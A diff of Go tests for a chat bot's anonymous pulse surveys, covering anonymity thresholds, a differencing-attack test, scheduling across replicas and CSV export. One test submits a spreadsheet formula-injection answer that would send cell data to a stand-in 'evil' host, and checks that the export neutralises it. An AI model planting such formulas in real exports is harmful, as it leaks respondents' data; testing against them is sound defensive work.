@@ -2,6 +2,7 @@ package bot_test
 
 import (
 	"bytes"
+	"context"
 	"encoding/csv"
 	"slices"
 	"strconv"
@@ -11,7 +12,7 @@ import (
 	"time"
 
 	"github.com/herald-chat/herald/bot"
-	"github.com/herald-chat/herald/scheduler"
+	"github.com/herald-chat/herald/schedule"
 )
 
 var (
@@ -74,18 +75,18 @@ func TestPulseNeedsAdmin(t *testing.T) {
 
 func TestPulseNewSendsOneDMPerPerson(t *testing.T) {
 	h := MustHarness(t)
-	h.dir.Set(team, people("UANNA", "UBEN")...)
+	h.dir.Set(team, people("UANNA", "UBEN", "UEVA")...)
 	h.dir.Set(sales, people("UBEN", "UCARLA")...)
 	reply := h.run(h.owner, `pulse new "Which training?" type=choice:CRM|Reporting|Mobile to=#team #sales @udan closes=2d`,
 		team, sales, user("UDAN")).Text.String()
-	mustContain(t, "reply", reply, h.t("pulse.started", "P1", "Which training?", 4, "Wed 2026-11-25 10:00 UTC"))
+	mustContain(t, "reply", reply, h.t("pulse.started", "P1", "Which training?", 5, "Wed 2026-11-25 10:00 UTC"))
 	sent := h.out.Sent()
 	var to []string
 	for _, m := range sent {
 		to = append(to, m.To.ID)
 	}
 	slices.Sort(to)
-	if want := []string{"UANNA", "UBEN", "UCARLA", "UDAN"}; !slices.Equal(to, want) {
+	if want := []string{"UANNA", "UBEN", "UCARLA", "UDAN", "UEVA"}; !slices.Equal(to, want) {
 		t.Fatalf("DMs went to %v, want %v", to, want)
 	}
 	m := sent[0]
@@ -100,7 +101,7 @@ func TestPulseNewSendsOneDMPerPerson(t *testing.T) {
 
 func TestPulseRatingAndOnceOnly(t *testing.T) {
 	h := MustHarness(t)
-	h.dir.Set(team, people("UANNA", "UBEN")...)
+	h.dir.Set(team, crowd("UANNA", "UBEN")...)
 	h.run(h.owner, `pulse new "How likely would you recommend us?" type=nps to=#team`, team)
 	dm := h.sentTo(user("UANNA"))[0]
 	want := &bot.Rating{Action: bot.ActionPulseAnswer, Value: "P1.1|1", Min: 0, Max: 10,
@@ -115,7 +116,7 @@ func TestPulseRatingAndOnceOnly(t *testing.T) {
 	again := h.rate(user("UANNA"), "P1.1", 1, 3)
 	mustContain(t, "second click", again.Text.String(), h.t("pulse.already"))
 	tl := h.run(h.owner, "pulse results P1").Text.String()
-	mustContain(t, "results", tl, h.t("pulse.res.rate", 1, 2, 50))
+	mustContain(t, "results", tl, h.t("pulse.res.rate", 1, 5, 20))
 	mustContain(t, "results", tl, h.t("pulse.res.withheld", 1, 5))
 	badValue := h.run(user("UBEN"), "answer P1 11").Text.String()
 	mustContain(t, "bad value", badValue, h.t("answer.err.value.nps", "0–10"))
@@ -125,7 +126,7 @@ func TestPulseRatingAndOnceOnly(t *testing.T) {
 
 func TestPulseClickAfterClose(t *testing.T) {
 	h := MustHarness(t)
-	h.dir.Set(team, people("UANNA", "UBEN")...)
+	h.dir.Set(team, crowd("UANNA", "UBEN")...)
 	h.run(h.owner, `pulse new "Ready?" type=yesno to=#team closes=1d`, team)
 	h.click(user("UANNA"), bot.ActionPulseAnswer, "P1.1|1|yes")
 	h.clock.Add(25 * time.Hour) // past close: the round closes on the next look
@@ -164,7 +165,9 @@ func TestCanWantWithheldThenMatrix(t *testing.T) {
 		h.rate(user(a.who), "P1.1", 1, a.can)
 		h.rate(user(a.who), "P1.1", 2, a.want)
 	}
-	res := h.run(h.owner, "pulse results P1")
+	open := text(h.run(h.owner, "pulse results P1"))
+	mustContain(t, "open round", open, h.t("pulse.res.open.anon", "P1.1"))
+	res := h.run(h.owner, "pulse close P1")
 	got := text(res)
 	mustContain(t, "rate", got, h.t("pulse.res.rate", 6, 6, 100))
 	for _, want := range []string{
@@ -187,21 +190,47 @@ func TestCanWantWithheldThenMatrix(t *testing.T) {
 	}
 }
 
+// TestPulseSegmentsThreshold is the differencing attack of issue 10: six
+// members of #general and one more person answer; showing #general's average
+// next to the round's would give away the one person's answer. Segments too
+// small are merged into "others", and the smallest shown one with them while
+// "others" is below the threshold.
 func TestPulseSegmentsThreshold(t *testing.T) {
 	h := MustHarness(t)
-	h.dir.Set(sales, people("US1", "US2", "US3", "US4", "US5")...)
-	h.dir.Set(eng, people("UE1", "UE2")...)
-	h.run(h.owner, `pulse new "Recommend us?" type=nps to=#sales #eng`, sales, eng)
-	for _, id := range []string{"US1", "US2", "US3", "US4", "US5"} {
+	general := channel("CGENERAL", "general")
+	h.dir.Set(general, people("UG1", "UG2", "UG3", "UG4", "UG5", "UG6")...)
+	h.run(h.owner, `pulse new "Clear goal?" type=scale5 to=#general @utarget`, general, user("UTARGET"))
+	for i, id := range []string{"UG1", "UG2", "UG3", "UG4", "UG5", "UG6"} {
+		h.rate(user(id), "P1.1", 1, 3+i%3)
+	}
+	h.rate(user("UTARGET"), "P1.1", 1, 1)
+	got := text(h.run(h.owner, "pulse close P1"))
+	mustContain(t, "round", got, h.t("pulse.res.n", 7))
+	mustContain(t, "segments", got, h.t("pulse.res.segments")+": "+h.t("pulse.res.seg.merged", 5))
+	if strings.Contains(got, "#general: ") {
+		t.Errorf("results show #general apart from the one other person:\n%s", got)
+	}
+
+	// Three channels: #ops is too small, so it and the smaller of the other
+	// two are shown together as "others".
+	h = MustHarness(t)
+	h.dir.Set(sales, people("US1", "US2", "US3", "US4", "US5", "US6")...)
+	h.dir.Set(eng, people("UE1", "UE2", "UE3", "UE4", "UE5")...)
+	ops := channel("COPS", "ops")
+	h.dir.Set(ops, people("UO1", "UO2")...)
+	h.run(h.owner, `pulse new "Recommend us?" type=nps to=#sales #eng #ops`, sales, eng, ops)
+	for _, id := range []string{"US1", "US2", "US3", "US4", "US5", "US6"} {
 		h.rate(user(id), "P1.1", 1, 10)
 	}
-	for _, id := range []string{"UE1", "UE2"} {
+	for _, id := range []string{"UE1", "UE2", "UE3", "UE4", "UE5", "UO1", "UO2"} {
 		h.rate(user(id), "P1.1", 1, 0)
 	}
-	got := text(h.run(h.owner, "pulse results P1"))
-	mustContain(t, "round", got, h.t("pulse.res.enps", 43, 71, 0, 29))
-	mustContain(t, "sales", got, "#sales: "+h.t("pulse.res.seg", "eNPS", "+100", 5))
-	mustContain(t, "eng", got, "#eng: "+h.t("pulse.res.seg.withheld", 2, 5))
+	got = text(h.run(h.owner, "pulse close P1"))
+	mustContain(t, "sales", got, "#sales: "+h.t("pulse.res.seg", "eNPS", "+100", 6))
+	mustContain(t, "others", got, h.t("pulse.res.seg.others", "#eng, #ops")+": "+h.t("pulse.res.seg", "eNPS", "-100", 7))
+	if strings.Contains(got, "#eng: ") || strings.Contains(got, "#ops: ") {
+		t.Errorf("results show #eng or #ops apart:\n%s", got)
+	}
 }
 
 func TestPulseExportCSV(t *testing.T) {
@@ -218,7 +247,11 @@ func TestPulseExportCSV(t *testing.T) {
 			h.rate(user(a.who), "P1.1", 2, a.want)
 		}
 	}
-	h.run(h.owner, "pulse close P1") // fin's single answer becomes a partial tuple
+	mustContain(t, "open round", text(h.run(h.owner, "pulse export P1")), h.t("pulse.export.notyet", "P1.1", "Thu 2026-11-26 10:00 UTC"))
+	// Fin's single answer is a partial tuple, one of fewer than 5: dropped at
+	// close, and the first question is shown in the matrix only.
+	h.run(h.owner, "pulse close P1")
+	mustContain(t, "partial answers", text(h.run(h.owner, "pulse results P1")), h.t("pulse.res.part.matrix"))
 	m := h.run(h.owner, "pulse export P1")
 	if m.File == nil || m.File.Type != "text/csv" {
 		t.Fatalf("got file %+v, want a CSV", m.File)
@@ -231,8 +264,10 @@ func TestPulseExportCSV(t *testing.T) {
 	if !slices.Equal(rows[0], wantHead) {
 		t.Errorf("got header %q, want %q", rows[0], wantHead)
 	}
-	want := [][]string{{"1", "1", "1"}, {"1", "2", "5"}, {"1", "3", ""}, {"1", "4", "2"}, {"1", "4", "4"}, {"1", "5", "5"}}
-	if got := rows[1:]; !slices.EqualFunc(got, want, slices.Equal) {
+	want := [][]string{{"1", "1", "1"}, {"1", "2", "5"}, {"1", "4", "2"}, {"1", "4", "4"}, {"1", "5", "5"}}
+	got := rows[1:]
+	slices.SortFunc(got, func(a, b []string) int { return strings.Compare(strings.Join(a, ","), strings.Join(b, ",")) })
+	if !slices.EqualFunc(got, want, slices.Equal) {
 		t.Errorf("got rows %q, want %q", got, want)
 	}
 	for _, id := range ids {
@@ -244,14 +279,14 @@ func TestPulseExportCSV(t *testing.T) {
 
 func TestPulseRemindOnlyNonResponders(t *testing.T) {
 	h := MustHarness(t)
-	h.dir.Set(team, people("UANNA", "UBEN", "UCARLA")...)
+	h.dir.Set(team, crowd("UANNA", "UBEN", "UCARLA")...)
 	h.run(h.owner, "pulse template canwant to=#team", team)
 	h.rate(user("UANNA"), "P1.1", 1, 4)
 	h.rate(user("UANNA"), "P1.1", 2, 4)
 	h.rate(user("UBEN"), "P1.1", 1, 4) // midway: reminded of question 2
 	h.out.Reset()
 	got := h.run(h.owner, "pulse remind P1").Text.String()
-	mustContain(t, "reply", got, h.t("pulse.reminded", 2, "P1.1"))
+	mustContain(t, "reply", got, h.t("pulse.reminded", 4, "P1.1")) // ben, carla and the two others
 	if n := len(h.sentTo(user("UANNA"))); n != 0 {
 		t.Errorf("anna finished but got %d reminders", n)
 	}
@@ -265,47 +300,91 @@ func TestPulseRemindOnlyNonResponders(t *testing.T) {
 	}
 }
 
-func TestPulseTickRemindsOnceAndCloses(t *testing.T) {
+func TestPulseRemindsOnceAndClosesOnSchedule(t *testing.T) {
+	tests := []struct {
+		name string
+		give int // replicas, each with its own scheduler
+	}{
+		{"one replica", 1},
+		{"three replicas", 3},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			h := MustHarness(t)
+			scheds := h.schedulers(tt.give)
+			h.dir.Set(team, people("UANNA", "UBEN", "UCARLA", "UDAN", "UEVA")...)
+			h.run(h.owner, `pulse new "Clear goal?" type=scale5 to=#team closes=3d`, team)
+			for _, id := range []string{"UANNA", "UBEN", "UCARLA", "UDAN"} {
+				h.rate(user(id), "P1.1", 1, 4)
+			}
+			h.out.Reset()
+			h.clock.Add(47 * time.Hour) // 25 hours before close: no reminder yet
+			h.tick(scheds)
+			if n := len(h.out.Sent()); n != 0 {
+				t.Fatalf("got %d messages 25h before close, want 0", n)
+			}
+			h.clock.Add(2 * time.Hour)
+			h.tick(scheds)
+			h.tick(scheds)
+			if got := h.out.Sent(); len(got) != 1 || got[0].To.ID != "UEVA" {
+				t.Fatalf("got reminders %+v, want one to UEVA", got)
+			}
+			h.rate(user("UEVA"), "P1.1", 1, 2)
+			h.out.Reset()
+			h.clock.Add(24 * time.Hour)
+			h.tick(scheds)
+			h.tick(scheds)
+			sent := h.out.Sent()
+			if len(sent) != 1 || sent[0].To.Key() != h.owner.Key() {
+				t.Fatalf("got %+v, want the results card to the owner", sent)
+			}
+			mustContain(t, "results card", text(&sent[0]), h.t("pulse.res.avg", 3.6))
+			mustContain(t, "results card", text(&sent[0]), h.t("pulse.res.closed"))
+		})
+	}
+}
+
+func TestPulseRoundThatCantBeReadHoldsUpNoOther(t *testing.T) {
 	h := MustHarness(t)
-	h.dir.Set(team, people("UANNA", "UBEN", "UCARLA", "UDAN", "UEVA")...)
-	h.run(h.owner, `pulse new "Clear goal?" type=scale5 to=#team closes=3d`, team)
-	for _, id := range []string{"UANNA", "UBEN", "UCARLA", "UDAN"} {
-		h.rate(user(id), "P1.1", 1, 4)
+	scheds := h.schedulers(3)
+	h.dir.Set(team, people("UANNA", "UBEN")...)
+	h.dir.Set(sales, people("UCARLA", "UDAN")...)
+	// Named pulses: two people each are below the anonymity minimum.
+	h.run(h.owner, `pulse new "Clear goal?" type=scale5 to=#team closes=3d anonymous=no`, team)
+	h.run(h.owner, `pulse new "Clear plan?" type=scale5 to=#sales closes=3d anonymous=no`, sales)
+	ctx := context.Background()
+	keys, err := h.rdb.Keys(ctx, h.prefix+"*pulse:P2:r1").Result()
+	if err != nil || len(keys) != 1 {
+		t.Fatalf("round P2.1: got keys %v, %v; want one", keys, err)
+	}
+	if err := h.rdb.HSet(ctx, keys[0], "round", "{broken").Err(); err != nil {
+		t.Fatalf("break round P2.1: %v", err)
 	}
 	h.out.Reset()
-	h.clock.Add(47 * time.Hour) // 25 hours before close: no reminder yet
-	if err := h.bot.PulseTick(t.Context()); err != nil {
-		t.Fatalf("tick: %v", err)
+	h.clock.Add(49 * time.Hour) // past the reminders
+	h.tick(scheds)
+	var reminded []string
+	for _, m := range h.out.Sent() {
+		reminded = append(reminded, m.To.ID)
 	}
-	if n := len(h.out.Sent()); n != 0 {
-		t.Fatalf("got %d messages 25h before close, want 0", n)
+	slices.Sort(reminded)
+	if want := []string{"UANNA", "UBEN"}; !slices.Equal(reminded, want) {
+		t.Errorf("got reminders to %v, want %v: P1's, though P2.1 can't be read", reminded, want)
 	}
-	h.clock.Add(2 * time.Hour)
-	for range 2 {
-		if err := h.bot.PulseTick(t.Context()); err != nil {
-			t.Fatalf("tick: %v", err)
-		}
-	}
-	if got := h.out.Sent(); len(got) != 1 || got[0].To.ID != "UEVA" {
-		t.Fatalf("got reminders %+v, want one to UEVA", got)
-	}
-	h.rate(user("UEVA"), "P1.1", 1, 2)
 	h.out.Reset()
-	h.clock.Add(24 * time.Hour)
-	if err := h.bot.PulseTick(t.Context()); err != nil {
-		t.Fatalf("tick: %v", err)
+	h.clock.Add(24 * time.Hour) // past the close
+	h.tick(scheds)
+	if sent := h.out.Sent(); len(sent) != 1 || sent[0].To.Key() != h.owner.Key() {
+		t.Errorf("got %+v, want P1's results card to the owner", sent)
 	}
-	sent := h.out.Sent()
-	if len(sent) != 1 || sent[0].To.Key() != h.owner.Key() {
-		t.Fatalf("got %+v, want the results card to the owner", sent)
+	if !strings.Contains(h.logs.String(), "pulse round left out of the schedule") {
+		t.Errorf("log: got\n%s\nwant the unreadable round named", h.logs.String())
 	}
-	mustContain(t, "results card", text(&sent[0]), h.t("pulse.res.avg", 3.6))
-	mustContain(t, "results card", text(&sent[0]), h.t("pulse.res.closed"))
 }
 
 func TestPulseTextAnswersAndSkip(t *testing.T) {
-	h := MustHarness(t, func(c *bot.Config) { c.AnonymityMin = 2 })
-	h.dir.Set(team, people("UANNA", "UBEN")...)
+	h := MustHarness(t, func(c *bot.Config) { c.AnonymityMin = 3 })
+	h.dir.Set(team, people("UANNA", "UBEN", "UCARLA", "UDAN")...)
 	h.run(h.owner, "pulse template adoption to=#team", team, user("UANNA"))
 	h.rate(user("UANNA"), "P1.1", 1, 4)
 	q3 := h.click(user("UANNA"), bot.ActionPulseAnswer, "P1.1|2|yes")
@@ -315,7 +394,7 @@ func TestPulseTextAnswersAndSkip(t *testing.T) {
 	form := h.click(user("UANNA"), bot.ActionPulseText, "P1.1|3")
 	mustContain(t, "text button", form.Text.String(), "answer P1.1 3 ")
 	wantForm := bot.Form{
-		Title: h.t("pulse.form.title"), Label: h.t("pulse.tpl.adoption.q3"), Hint: h.t("pulse.dm.anon", 2),
+		Title: h.t("pulse.form.title"), Label: h.t("pulse.tpl.adoption.q3"), Hint: h.t("pulse.dm.anon", 3),
 		Submit: h.t("pulse.form.submit"), Action: bot.ActionPulseText, Value: "P1.1|3", Multiline: true, MaxLength: 2000,
 	}
 	if form.Form == nil || *form.Form != wantForm {
@@ -335,13 +414,28 @@ func TestPulseTextAnswersAndSkip(t *testing.T) {
 	h.click(user("UBEN"), bot.ActionPulseAnswer, "P1.1|2|no")
 	skipped := h.click(user("UBEN"), bot.ActionPulseAnswer, "P1.1|3|-")
 	mustContain(t, "skip", skipped.Text.String(), h.t("pulse.thanks.done"))
+	h.rate(user("UCARLA"), "P1.1", 1, 5)
+	h.click(user("UCARLA"), bot.ActionPulseAnswer, "P1.1|2|yes")
+	h.bot.Handle(t.Context(), bot.Request{User: user("UCARLA"),
+		Action: &bot.Action{Name: bot.ActionPulseText, Value: "P1.1|3", Input: `=HYPERLINK("https://evil/?"&A1,"x")`}})
+	// Open, the round shows no figures: the next answer would tell itself.
+	mustContain(t, "open round", text(h.run(h.owner, "pulse results P1")), h.t("pulse.res.open.anon", "P1.1"))
+	h.rate(user("UDAN"), "P1.1", 1, 3)
+	h.click(user("UDAN"), bot.ActionPulseAnswer, "P1.1|2|yes")
+	h.run(user("UDAN"), "answer P1 3 @SUM(A1:A9)")
 	h.run(h.owner, "pulse close P1")
 	rows, err := csv.NewReader(bytes.NewReader(h.run(h.owner, "pulse export P1").File.Content)).ReadAll()
 	if err != nil {
 		t.Fatalf("parse CSV: %v", err)
 	}
-	want := [][]string{{"1", "2", "No", ""}, {"1", "4", "Yes", "more time to learn"}}
-	if got := rows[1:]; !slices.EqualFunc(got, want, slices.Equal) {
+	// Scores and texts in rows of their own; formulas neutralised.
+	want := [][]string{
+		{"1", "", "", "'=HYPERLINK(\"https://evil/?\"&A1,\"x\")"}, {"1", "", "", "'@SUM(A1:A9)"},
+		{"1", "", "", "more time to learn"}, {"1", "2", "No", ""}, {"1", "3", "Yes", ""}, {"1", "4", "Yes", ""}, {"1", "5", "Yes", ""},
+	}
+	got := rows[1:]
+	slices.SortFunc(got, func(a, b []string) int { return strings.Compare(strings.Join(a, ","), strings.Join(b, ",")) })
+	if !slices.EqualFunc(got, want, slices.Equal) {
 		t.Errorf("got rows %q, want %q", got, want)
 	}
 	res := text(h.run(h.owner, "pulse results P1"))
@@ -357,22 +451,26 @@ func TestPulseNotAnonymous(t *testing.T) {
 	h.click(user("UANNA"), bot.ActionPulseAnswer, "P1.1|1|yes")
 	res := text(h.run(h.owner, "pulse results P1"))
 	mustContain(t, "results shown below the threshold", res, h.t("pulse.res.yesno", 100, 1, 0, 0))
+	mustContain(t, "names next to answers, as told", res, h.t("pulse.res.named")+": • @uanna: "+h.t("pulse.yes"))
+	h.run(h.owner, "pulse close P1")
 	m := h.run(h.owner, "pulse export P1")
+	mustContain(t, "export says names", m.Text.String(), h.t("pulse.export.done.named", 1, "P1.1"))
 	rows, err := csv.NewReader(bytes.NewReader(m.File.Content)).ReadAll()
 	if err != nil {
 		t.Fatalf("parse CSV: %v", err)
 	}
-	if want := [][]string{{"round", "person", "1. Join the pilot?"}, {"1", user("UANNA").Key(), "Yes"}}; !slices.EqualFunc(rows, want, slices.Equal) {
+	if want := [][]string{{"round", "person", "1. Join the pilot?"}, {"1", "uanna", "Yes"}}; !slices.EqualFunc(rows, want, slices.Equal) {
 		t.Errorf("got %q, want %q", rows, want)
 	}
 }
 
 func TestPulseTrendOverRounds(t *testing.T) {
-	h := MustHarness(t, func(c *bot.Config) { c.AnonymityMin = 2; c.Schedules = scheduler.Parser{} })
-	h.dir.Set(team, people("UANNA", "UBEN")...)
+	h := MustHarness(t, func(c *bot.Config) { c.AnonymityMin = 3; c.Schedules = schedule.Parser{} })
+	h.dir.Set(team, people("UANNA", "UBEN", "UCARLA")...)
 	h.run(h.owner, `pulse template enps to=#team every="every monday at 9:00"`, team)
 	h.rate(user("UANNA"), "P1.1", 1, 10)
 	h.rate(user("UBEN"), "P1.1", 1, 0)
+	h.rate(user("UCARLA"), "P1.1", 1, 8)
 	h.clock.Add(7 * 24 * time.Hour)
 	r, err := h.bot.OpenRound(t.Context(), "slack:T1", "P1", h.clock.Now())
 	if err != nil || r.ID() != "P1.2" {
@@ -380,7 +478,8 @@ func TestPulseTrendOverRounds(t *testing.T) {
 	}
 	h.rate(user("UANNA"), "P1.2", 1, 10)
 	h.rate(user("UBEN"), "P1.2", 1, 9)
-	got := text(h.run(h.owner, "pulse results P1"))
+	h.rate(user("UCARLA"), "P1.2", 1, 9)
+	got := text(h.run(h.owner, "pulse close P1"))
 	mustContain(t, "trend", got, h.t("pulse.res.trend", "eNPS")+": R1: +0 → R2: +100")
 	old := text(h.run(h.owner, "pulse results P1.1"))
 	mustContain(t, "round 1 closed", old, h.t("pulse.res.closed"))
@@ -394,9 +493,9 @@ func TestPulseTrendOverRounds(t *testing.T) {
 }
 
 func TestPulseConcurrentClicksCountOnce(t *testing.T) {
-	h := MustHarness(t, func(c *bot.Config) { c.AnonymityMin = 1 })
+	h := MustHarness(t)
 	h.dir.Set(team, people("UANNA", "UBEN")...)
-	h.run(h.owner, `pulse new "Recommend us?" type=nps to=#team`, team)
+	h.run(h.owner, `pulse new "Recommend us?" type=nps to=#team anonymous=no`, team)
 	const clicks = 50
 	replies := make(chan string, clicks)
 	var wg sync.WaitGroup
@@ -425,8 +524,8 @@ func TestPulseConcurrentClicksCountOnce(t *testing.T) {
 }
 
 func TestRecurringPulseRunsOnItsSchedule(t *testing.T) {
-	h := MustHarness(t, func(c *bot.Config) { c.Schedules = scheduler.Parser{} })
-	h.dir.Set(team, people("UANNA", "UBEN")...)
+	h := MustHarness(t, func(c *bot.Config) { c.Schedules = schedule.Parser{} })
+	h.dir.Set(team, crowd("UANNA", "UBEN")...)
 	ctx := t.Context()
 
 	bad := text(h.run(h.owner, `pulse template enps to=#team every="every blue moon"`, team))
@@ -497,7 +596,7 @@ func TestAnswersSeeCloseElsewhere(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	h.dir.Set(team, people("UANNA", "UBEN")...)
+	h.dir.Set(team, crowd("UANNA", "UBEN")...)
 	h.run(h.owner, `pulse new "Join the pilot?" type=yesno to=#team`, team)
 	h.run(h.owner, `pulse new "Enough time to learn?" type=yesno to=#team closes=1d`, team)
 	for _, round := range []string{"P1.1", "P2.1"} {
